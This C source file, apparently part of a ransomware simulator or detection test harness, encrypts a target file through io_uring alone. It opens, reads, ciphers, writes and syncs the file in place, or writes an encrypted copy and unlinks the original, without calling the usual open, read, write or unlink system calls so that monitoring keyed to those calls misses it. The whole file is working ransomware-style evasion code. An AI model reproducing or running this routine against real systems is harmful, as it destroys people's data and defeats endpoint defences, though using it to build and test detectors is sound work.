/* Alteration through io_uring alone: opened, read, written and unlinked without a system call of those names. */
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "pattern.h"

enum { N_ENTRIES = 8 };

struct uring {
        int fd;
        struct io_uring_params p;
        uint8_t *rings;
        size_t rings_bytes;
        struct io_uring_sqe *sqes;
        unsigned n_queued;
};

static unsigned *ring_word(struct uring *ring, uint32_t offset) {
        return (unsigned *)(ring->rings + offset);
}

static void uring_close(struct uring *ring) {
        if (ring->sqes)
                munmap(ring->sqes, N_ENTRIES * sizeof(*ring->sqes));
        if (ring->rings)
                munmap(ring->rings, ring->rings_bytes);
        close(ring->fd);
}

static void *map_ring(int fd, size_t n, off_t at) {
        void *bytes = mmap(NULL, n, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, at);
        return bytes == MAP_FAILED ? NULL : bytes;
}

static int uring_open(struct uring *ring, unsigned flags) {
        *ring = (struct uring){.p = {.flags = flags, .sq_thread_idle = 2000}};
        ring->fd = (int)syscall(SYS_io_uring_setup, N_ENTRIES, &ring->p);
        if (ring->fd < 0)
                return -errno;
        size_t sq = ring->p.sq_off.array + ring->p.sq_entries * sizeof(unsigned);
        size_t cq = ring->p.cq_off.cqes + ring->p.cq_entries * sizeof(struct io_uring_cqe);
        ring->rings_bytes = sq > cq ? sq : cq;
        ring->rings = map_ring(ring->fd, ring->rings_bytes, IORING_OFF_SQ_RING);
        ring->sqes = map_ring(ring->fd, N_ENTRIES * sizeof(*ring->sqes), IORING_OFF_SQES);
        if (ring->rings && ring->sqes && (ring->p.features & IORING_FEAT_SINGLE_MMAP))
                return 0;
        uring_close(ring);
        return -ENOSYS;
}

static struct io_uring_sqe *uring_queue(struct uring *ring, uint8_t opcode, int fd, uint8_t flags) {
        unsigned tail = *ring_word(ring, ring->p.sq_off.tail) + ring->n_queued;
        unsigned slot = tail & *ring_word(ring, ring->p.sq_off.ring_mask);
        struct io_uring_sqe *sqe = &ring->sqes[slot];
        memset(sqe, 0, sizeof(*sqe));
        sqe->opcode = opcode;
        sqe->fd = fd;
        sqe->flags = flags;
        ring_word(ring, ring->p.sq_off.array)[slot] = slot;
        ring->n_queued++;
        return sqe;
}

/* Submits what is queued and waits for all of it: the last result, or the first error. */
static int uring_wait(struct uring *ring) {
        unsigned n = ring->n_queued, n_done = 0;
        unsigned *tail = ring_word(ring, ring->p.sq_off.tail), *head = ring_word(ring, ring->p.cq_off.head);
        unsigned enter = IORING_ENTER_GETEVENTS;
        int r = 0;
        __atomic_store_n(tail, *tail + n, __ATOMIC_SEQ_CST);
        ring->n_queued = 0;
        if (__atomic_load_n(ring_word(ring, ring->p.sq_off.flags), __ATOMIC_SEQ_CST) & IORING_SQ_NEED_WAKEUP)
                enter |= IORING_ENTER_SQ_WAKEUP;
        unsigned submit = ring->p.flags & IORING_SETUP_SQPOLL ? 0 : n;
        while (n_done < n) {
                if (syscall(SYS_io_uring_enter, ring->fd, submit, n - n_done, enter, NULL, 0) < 0 &&
                    errno != EINTR)
                        return -errno;
                submit = 0;
                for (; *head != __atomic_load_n(ring_word(ring, ring->p.cq_off.tail), __ATOMIC_ACQUIRE);
                     n_done++) {
                        unsigned at = *head & *ring_word(ring, ring->p.cq_off.ring_mask);
                        struct io_uring_cqe *cqes =
                                (struct io_uring_cqe *)(ring->rings + ring->p.cq_off.cqes);
                        r = r < 0 ? r : cqes[at].res;
                        __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
                }
        }
        return r;
}

static int uring_openat(struct uring *ring, int folder, const char *name, int flags) {
        struct io_uring_sqe *sqe = uring_queue(ring, IORING_OP_OPENAT, folder, 0);
        sqe->addr = (uintptr_t)name;
        sqe->len = 0644;
        sqe->open_flags = (uint32_t)(flags | O_NOFOLLOW | O_CLOEXEC);
        return uring_wait(ring);
}

static void queue_rw(struct uring *ring, uint8_t opcode, int fd, const uint8_t *bytes, size_t n,
                     uint64_t at) {
        struct io_uring_sqe *sqe =
                uring_queue(ring, opcode, fd, opcode == IORING_OP_WRITE ? IOSQE_IO_LINK : 0);
        sqe->addr = (uintptr_t)bytes;
        sqe->len = (uint32_t)n;
        sqe->off = at;
}

/* Each block is read, and then written and synchronised by two linked entries. */
static int uring_cipher(struct uring *ring, int from, int to, uint64_t key) {
        uint8_t *block = malloc(BLOCK_BYTES);
        uint64_t at = 0;
        int n = block ? 1 : -ENOMEM, r = block ? UNTOUCHED : -ENOMEM;
        while (n > 0 && r >= 0) {
                queue_rw(ring, IORING_OP_READ, from, block, BLOCK_BYTES, at);
                n = uring_wait(ring);
                if (n <= 0)
                        break;
                cipher_apply(key, at, block, (size_t)n);
                queue_rw(ring, IORING_OP_WRITE, to, block, (size_t)n, at);
                uring_queue(ring, IORING_OP_FSYNC, to, 0)->fsync_flags = IORING_FSYNC_DATASYNC;
                r = uring_wait(ring);
                at += (uint64_t)n;
        }
        free(block);
        return n < 0 ? n : r;
}

static int alter_in_ring(struct victim *victim, unsigned flags) {
        struct uring ring;
        int r = uring_open(&ring, flags), fd;
        if (r < 0)
                return r;
        r = fd = uring_openat(&ring, victim->folder, victim->name, O_RDWR);
        if (fd >= 0) {
                r = uring_cipher(&ring, fd, fd, victim->key);
                close(fd);
        }
        uring_close(&ring);
        return r;
}

int alter_uring_in_place(struct victim *victim) {
        return alter_in_ring(victim, 0);
}

int alter_uring_poll(struct victim *victim) {
        return alter_in_ring(victim, IORING_SETUP_SQPOLL);
}

int alter_uring_copy(struct victim *victim) {
        struct uring ring;
        char name[256];
        int from = -1, to = -1, r = extended_name(victim, name, sizeof(name));
        if (r == 0)
                r = uring_open(&ring, 0);
        if (r < 0)
                return r;
        r = from = uring_openat(&ring, victim->folder, victim->name, O_RDONLY);
        if (r >= 0)
                r = to = uring_openat(&ring, victim->folder, name, O_WRONLY | O_CREAT | O_EXCL);
        if (r >= 0)
                r = uring_cipher(&ring, from, to, victim->key);
        if (r >= 0) {
                uring_queue(&ring, IORING_OP_UNLINKAT, victim->folder, 0)->addr = (uintptr_t)victim->name;
                r = uring_wait(&ring);
        }
        if (from >= 0)
                close(from);
        if (to >= 0)
                close(to);
        uring_close(&ring);
        return r;
}
